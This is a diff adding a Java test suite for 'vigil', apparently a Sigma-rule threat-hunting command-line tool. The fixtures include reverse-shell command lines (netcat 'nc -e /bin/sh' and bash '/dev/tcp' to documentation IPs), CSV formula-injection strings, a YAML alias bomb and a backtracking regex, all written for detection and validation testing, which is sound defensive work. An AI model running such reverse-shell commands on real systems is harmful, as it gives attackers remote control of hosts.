@@ -1,0 +1,309 @@
+package dev.vigil.cli;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import com.fasterxml.jackson.databind.JsonNode;
+import com.fasterxml.jackson.databind.ObjectMapper;
+import dev.vigil.core.testing.Corpus;
+import java.io.IOException;
+import java.io.PrintWriter;
+import java.io.StringWriter;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** {@code vigil hunt} and {@code vigil rules check} end to end, through the same entry point as the launcher. */
+class HuntCommandTest {
+    private static final ObjectMapper JSON = new ObjectMapper();
+
+    @TempDir
+    Path tmp;
+
+    record Run(int exit, String out, String err) {
+        List<JsonNode> jsonLines() throws IOException {
+            List<JsonNode> out = new ArrayList<>();
+            for (String line : this.out.split("\n")) {
+                if (!line.isBlank()) {
+                    out.add(JSON.readTree(line));
+                }
+            }
+            return out;
+        }
+    }
+
+    static Run vigil(String... args) {
+        StringWriter out = new StringWriter();
+        StringWriter err = new StringWriter();
+        int exit = Main.run(new PrintWriter(out), new PrintWriter(err), args);
+        return new Run(exit, out.toString(), err.toString());
+    }
+
+    private Path write(String name, String content) throws IOException {
+        Path p = tmp.resolve(name);
+        Files.createDirectories(p.getParent());
+        Files.writeString(p, content, StandardCharsets.UTF_8);
+        return p;
+    }
+
+    private static final String RULE = """
+            title: Whoami all
+            id: 6a0f3c4e-1d2b-4c5a-9e8f-0a1b2c3d4e5f
+            status: test
+            logsource:
+              product: windows
+              category: process_creation
+            detection:
+              selection:
+                Image|endswith: '\\whoami.exe'
+                CommandLine|contains: '/all'
+              condition: selection
+            level: medium
+            tags:
+              - attack.discovery
+              - attack.t1033
+            """;
+
+    private static String sysmon(long record, String image, String cmd) {
+        return "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\"}},"
+                + "\"EventID\":1,\"EventRecordID\":" + record
+                + ",\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"ws1\","
+                + "\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2026-01-05T10:00:0" + (record % 10) + "Z\"}}},"
+                + "\"EventData\":{\"Image\":" + JSON.valueToTree(image) + ",\"CommandLine\":" + JSON.valueToTree(cmd)
+                + "}}}";
+    }
+
+    @Test
+    void jsonlDetectionsCarryRuleSourceAndEvent() throws IOException {
+        Path rules = write("rules/whoami.yml", RULE);
+        Path input = write("logs/events.jsonl", String.join("\n",
+                sysmon(41, "C:\\Windows\\System32\\whoami.exe", "whoami /all"),
+                sysmon(42, "C:\\Windows\\System32\\whoami.exe", "whoami"),
+                sysmon(43, "C:\\Windows\\System32\\WHOAMI.EXE", "whoami /ALL /fo csv")) + "\n");
+        Run run = vigil("hunt", "--rules", rules.toString(), "--format", "jsonl", input.toString());
+        assertThat(run.exit()).as(run.err()).isZero();
+        List<JsonNode> lines = run.jsonLines();
+        assertThat(lines).hasSize(2);
+        JsonNode first = lines.get(0);
+        assertThat(first.path("rule").path("id").asText()).isEqualTo("6a0f3c4e-1d2b-4c5a-9e8f-0a1b2c3d4e5f");
+        assertThat(first.path("rule").path("title").asText()).isEqualTo("Whoami all");
+        assertThat(first.path("rule").path("level").asText()).isEqualTo("medium");
+        assertThat(first.path("rule").path("tags").get(1).asText()).isEqualTo("attack.t1033");
+        assertThat(first.path("source").path("file").asText()).isEqualTo(input.toString());
+        // Windows events are numbered by their EventRecordID, not their line.
+        assertThat(first.path("source").path("record").asLong()).isEqualTo(41);
+        assertThat(lines.get(1).path("source").path("record").asLong()).isEqualTo(43);
+        assertThat(first.path("timestamp").asText()).isEqualTo("2026-01-05T10:00:01Z");
+        assertThat(first.path("event").path("Event").path("EventData").path("CommandLine").asText())
+                .isEqualTo("whoami /all");
+    }
+
+    @Test
+    void genericJsonLinesAreNumberedByLine() throws IOException {
+        Path rules = write("rules/k.yml", """
+                title: Keyword
+                logsource:
+                  product: linux
+                detection:
+                  keywords:
+                    - 'nc -e /bin/sh'
+                  condition: keywords
+                level: high
+                """);
+        Path input = write("l.jsonl", "{\"msg\":\"hello\"}\n{\"msg\":\"ok\"}\n{\"cmd\":\"nc -e /bin/sh 10.0.0.1 4444\"}\n");
+        Run run = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", input.toString());
+        assertThat(run.jsonLines()).singleElement().satisfies(d -> {
+            assertThat(d.path("source").path("record").asLong()).isEqualTo(3);
+            assertThat(d.path("event").path("cmd").asText()).startsWith("nc -e");
+        });
+    }
+
+    @Test
+    void theSameInputGivesTheSameOutput() throws IOException {
+        Path data = Corpus.require("sigma/regression_data/rules/windows/process_creation");
+        Path rules = Corpus.require("sigma/rules/windows/process_creation");
+        Run a = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", data.toString());
+        Run b = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", data.toString());
+        assertThat(a.exit()).isZero();
+        assertThat(a.jsonLines()).hasSizeGreaterThan(20);
+        assertThat(a.out()).isEqualTo(b.out());
+    }
+
+    @Test
+    void tableListsDetectionsThenCountsAndTactics() throws IOException {
+        Path rules = write("rules/whoami.yml", RULE);
+        Path input = write("e.json", "[" + sysmon(7, "C:\\Windows\\System32\\whoami.exe", "whoami /all") + "]");
+        Run run = vigil("hunt", "-r", rules.toString(), "-f", "table", input.toString());
+        assertThat(run.exit()).isZero();
+        assertThat(run.out())
+                .contains("Whoami all")
+                .contains(input + "#7")
+                .contains("1 events in 1 files, 1 detections")
+                .contains("By level:")
+                .contains("ATT&CK tactics seen:")
+                .contains("discovery");
+    }
+
+    @Test
+    void csvEscapesFormulasAndQuotes() throws IOException {
+        Path rules = write("rules/whoami.yml", RULE);
+        Path input = write("e.jsonl", sysmon(9, "C:\\Windows\\System32\\whoami.exe", "=cmd|' /all,\"x\"") + "\n");
+        Run run = vigil("hunt", "-r", rules.toString(), "-f", "csv", input.toString());
+        String[] rows = run.out().split("\r\n");
+        assertThat(rows[0]).startsWith("timestamp,rule_id,rule_title,level");
+        assertThat(rows).hasSize(2);
+        // The event cell is JSON, its quotes doubled for CSV.
+        assertThat(rows[1]).contains("Whoami all").contains("\"\"CommandLine\"\":\"\"=cmd|' /all,\\\"\"x\\\"\"\"\"");
+        assertThat(CsvWriter.cell("=HYPERLINK(\"x\")")).isEqualTo("\"'=HYPERLINK(\"\"x\"\")\"");
+        assertThat(CsvWriter.cell("-2+3")).isEqualTo("'-2+3");
+    }
+
+    @Test
+    void minLevelDropsLowerLevels() throws IOException {
+        Path rules = write("rules/whoami.yml", RULE);
+        Path input = write("e.jsonl", sysmon(1, "C:\\Windows\\System32\\whoami.exe", "whoami /all") + "\n");
+        assertThat(vigil("hunt", "-r", rules.toString(), "-f", "jsonl", "--min-level", "high", input.toString())
+                        .jsonLines())
+                .isEmpty();
+        assertThat(vigil("hunt", "-r", rules.toString(), "-f", "jsonl", "--min-level", "medium", input.toString())
+                        .jsonLines())
+                .hasSize(1);
+    }
+
+    @Test
+    void correlationDetectionsCarryGroupByAndTheirEvents() throws IOException {
+        Path rules = write("rules/brute.yml", """
+                title: Failed logon
+                name: failed_logon
+                id: 0b8b3c11-2d5e-4f5a-8c61-6f1e0f2a9b01
+                logsource:
+                  product: windows
+                  service: security
+                detection:
+                  selection:
+                    EventID: 4625
+                  condition: selection
+                level: low
+                ---
+                title: Brute force
+                id: 4b9f0a7e-6c1d-4e59-b0a2-1f4d2c3b5a68
+                correlation:
+                  type: event_count
+                  rules:
+                    - failed_logon
+                  group-by:
+                    - IpAddress
+                  timespan: 5m
+                  condition:
+                    gte: 3
+                level: high
+                """);
+        StringBuilder in = new StringBuilder();
+        for (int i = 1; i <= 3; i++) {
+            in.append("{\"Event\":{\"System\":{\"EventID\":4625,\"EventRecordID\":").append(100 + i)
+                    .append(",\"Channel\":\"Security\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2026-01-05T10:0")
+                    .append(i).append(":00Z\"}}},\"EventData\":{\"IpAddress\":\"203.0.113.9\"}}}\n");
+        }
+        Path input = write("sec.jsonl", in.toString());
+        Run run = vigil("hunt", "-r", rules.toString(), "-f", "jsonl", input.toString());
+        assertThat(run.exit()).as(run.err()).isZero();
+        List<JsonNode> lines = run.jsonLines();
+        // The base rule has generate: false (the default), so only the correlation is reported.
+        assertThat(lines).singleElement().satisfies(d -> {
+            assertThat(d.path("rule").path("title").asText()).isEqualTo("Brute force");
+            assertThat(d.path("correlation").path("group_by").path("IpAddress").asText()).isEqualTo("203.0.113.9");
+            assertThat(d.path("correlation").path("sources")).hasSize(3);
+            assertThat(d.path("correlation").path("sources").get(0).path("record").asLong()).isEqualTo(101);
+            assertThat(d.path("source").path("record").asLong()).isEqualTo(103);
+        });
+    }
+
+    @Test
+    void corruptInputIsReportedAndTheRestIsRead() throws IOException {
+        Path evtx;
+        try (var files = Files.walk(Corpus.require("sigma/regression_data/rules/windows/process_creation"))) {
+            evtx = files.filter(p -> p.toString().endsWith(".evtx")).sorted().findFirst().orElseThrow();
+        }
+        byte[] bytes = Files.readAllBytes(evtx);
+        Path truncated = tmp.resolve("in/truncated.evtx");
+        Files.createDirectories(truncated.getParent());
+        Files.write(truncated, java.util.Arrays.copyOf(bytes, 4096 + 1024));
+        write("in/bad.jsonl", "{\"a\":1}\n{not json\n{\"a\":2}\n");
+        write("in/garbage.bin", "\u0000\u0001\u0002binary");
+        Run run = vigil("hunt", "-f", "jsonl", tmp.resolve("in").toString());
+        assertThat(run.exit()).as(run.err()).isZero();
+        assertThat(run.err())
+                .contains("bad.jsonl:2")
+                .contains("garbage.bin")
+                .contains("truncated.evtx")
+                .containsPattern("\\d+ events in 3 files");
+    }
+
+    @Test
+    void missingInputOrRulesExitNonZeroWithAMessage() throws IOException {
+        Run noInput = vigil("hunt", tmp.resolve("nope.jsonl").toString());
+        assertThat(noInput.exit()).isEqualTo(2);
+        assertThat(noInput.err()).contains("input not found").contains("nope.jsonl");
+        Path input = write("x.jsonl", "{}\n");
+        Run noRules = vigil("hunt", "-r", tmp.resolve("none").toString(), input.toString());
+        assertThat(noRules.exit()).isEqualTo(2);
+        assertThat(noRules.err()).contains("rules not found");
+        Path badRules = write("bad/only.yml", "title: [unclosed");
+        Run allFailed = vigil("hunt", "-r", badRules.toString(), input.toString());
+        assertThat(allFailed.exit()).isEqualTo(2);
+        assertThat(allFailed.err()).contains("no rules could be loaded").contains("only.yml");
+    }
+
+    @Test
+    void noDetectionsIsStillSuccess() throws IOException {
+        Path input = write("quiet.jsonl", "{\"msg\":\"nothing to see\"}\n");
+        Run run = vigil("hunt", "-f", "jsonl", input.toString());
+        assertThat(run.exit()).isZero();
+        assertThat(run.out()).isEmpty();
+        assertThat(run.err()).contains("1 events in 1 files, 0 detections");
+    }
+
+    @Test
+    void rulesCheckReportsEveryBadRuleAsJson() throws IOException {
+        write("rs/good.yml", RULE);
+        write("rs/invalid.yml", "title: x\ndetection: [\n");
+        StringBuilder bomb = new StringBuilder("a: &a [x, x, x, x, x, x, x, x, x]\n");
+        for (char c = 'b'; c <= 'j'; c++) {
+            char p = (char) (c - 1);
+            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(", *").append(p).append(", *")
+                    .append(p).append(", *").append(p).append(", *").append(p).append(", *").append(p).append(", *")
+                    .append(p).append(", *").append(p).append(", *").append(p).append("]\n");
+        }
+        write("rs/bomb.yml", bomb.toString());
+        write("rs/backtrack.yml", RULE.replace("Image|endswith: '\\whoami.exe'", "Image|re: '^(a|a)*(?=b)'"));
+        write("rs/notarule.yml", "just: a map\n");
+        Run run = vigil("rules", "check", "--format", "json", tmp.resolve("rs").toString());
+        assertThat(run.exit()).isEqualTo(1);
+        JsonNode report = JSON.readTree(run.out());
+        assertThat(report.path("loaded").asInt()).isEqualTo(1);
+        assertThat(report.path("failed").asInt()).isEqualTo(4);
+        List<String> errors = new ArrayList<>();
+        report.path("errors").forEach(e -> errors.add(e.path("file").asText() + ": " + e.path("message").asText()));
+        assertThat(errors).anySatisfy(e -> assertThat(e).contains("invalid.yml").contains("invalid YAML"));
+        assertThat(errors).anySatisfy(e -> assertThat(e).contains("bomb.yml").containsIgnoringCase("alias"));
+        assertThat(errors).anySatisfy(e -> assertThat(e).contains("backtrack.yml").contains("RE2J"));
+        assertThat(errors).anySatisfy(e -> assertThat(e).contains("notarule.yml").contains("not a Sigma rule"));
+
+        Run text = vigil("rules", "check", tmp.resolve("rs").toString());
+        assertThat(text.out()).contains("FAILED").contains("1 rules loaded, 4 failed");
+    }
+
+    @Test
+    void builtInPackRunsWithoutRulesOption() throws IOException {
+        Path input = write("lin.jsonl", "{\"logsource\":{\"product\":\"linux\",\"category\":\"process_creation\"},"
+                + "\"Image\":\"/bin/bash\",\"CommandLine\":\"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\","
+                + "\"User\":\"www-data\",\"ParentImage\":\"/usr/sbin/apache2\"}\n");
+        Run run = vigil("hunt", "-f", "jsonl", input.toString());
+        assertThat(run.exit()).as(run.err()).isZero();
+        assertThat(run.jsonLines()).isNotEmpty();
+        assertThat(run.jsonLines().get(0).path("rule").path("title").asText()).isNotBlank();
+    }
+}
